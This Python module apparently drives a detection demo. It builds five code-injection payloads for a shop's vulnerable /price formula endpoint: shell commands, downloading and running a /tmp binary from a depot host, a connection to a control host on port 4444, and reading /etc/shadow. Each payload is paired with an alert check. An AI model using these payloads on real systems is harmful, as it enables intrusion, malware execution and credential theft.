"""The demo's attack: five things that the shop never did, each made through the hole in its /price page."""

import shutil
from collections.abc import Callable
from dataclasses import dataclass
from pathlib import Path
from typing import Any
from urllib.parse import quote

from pipeline.demo.town import CONTROL, DEPOT

DROPPED = "/tmp/.x/kdevtmpfsi"
Told = dict[str, Any]


@dataclass(frozen=True, slots=True)
class Step:
    name: str
    formula: str
    """What the attacker has the shop evaluate."""
    raised: Callable[[Told], bool]
    """Whether an alert or finding is about this step."""
    shown: str
    """What a Slack message about it must contain."""

    @property
    def path(self) -> str:
        return f"/price?formula={quote(self.formula)}"


def run(*command: str) -> str:
    return f"__import__('subprocess').run({list(command)!r}, capture_output=True, timeout=15)"


def download(tools: tuple[str, ...] = ("/usr/bin", "/bin")) -> tuple[str, ...]:
    """The download tool that this system has: curl, wget, busybox, apt's own, or the shop's Python as the last."""
    url = f"http://{DEPOT}:8000/{Path(DROPPED).name}"
    choices = (
        ("curl", "-s", "-o", DROPPED, url),
        ("wget", "-q", "-O", DROPPED, url),
        ("busybox", "wget", "-q", "-O", DROPPED, url),
        ("/usr/lib/apt/apt-helper", "download-file", url, DROPPED),
    )
    fetch = f"import urllib.request; urllib.request.urlretrieve({url!r}, {DROPPED!r})"
    path = ":".join(tools)
    return next((choice for choice in choices if shutil.which(choice[0], path=path)), ("python3", "-c", fetch))


def remote(told: Told, address: str) -> bool:
    return (told["remote"] or {}).get("ip") == address


def steps() -> tuple[Step, ...]:
    tool = download()
    folder = str(Path(DROPPED).parent)
    return (
        Step(
            "a shell",
            run("/bin/sh", "-c", "id; uname -a"),
            lambda told: "id; uname -a" in told["command"] and told["kind"] in ("exec", "danger"),
            "id; uname -a",
        ),
        Step(
            f"a download tool ({Path(tool[0]).name})",
            f"(__import__('os').makedirs({folder!r}, exist_ok=True), {run(*tool)})",
            lambda told: DEPOT in told["command"] and told["kind"] in ("exec", "danger"),
            f"http://{DEPOT}:8000",
        ),
        Step(
            "a program dropped into /tmp and run",
            f"(__import__('os').chmod({DROPPED!r}, 0o755), {run(DROPPED, '0.5')})",
            lambda told: told["exe"] == DROPPED and told["kind"] in ("exec", "danger"),
            f"{DROPPED} 0.5",
        ),
        Step(
            "a connection to a new address",
            f"__import__('socket').create_connection(({CONTROL!r}, 4444), 5).recv(9)",
            lambda told: remote(told, CONTROL) and told["kind"] in ("connect", "danger"),
            CONTROL,
        ),
        Step(
            "a secret read",
            "open('/etc/shadow').read()",
            lambda told: told["object"] == "/etc/shadow" and told["kind"] in ("file", "danger"),
            "/etc/shadow",
        ),
    )
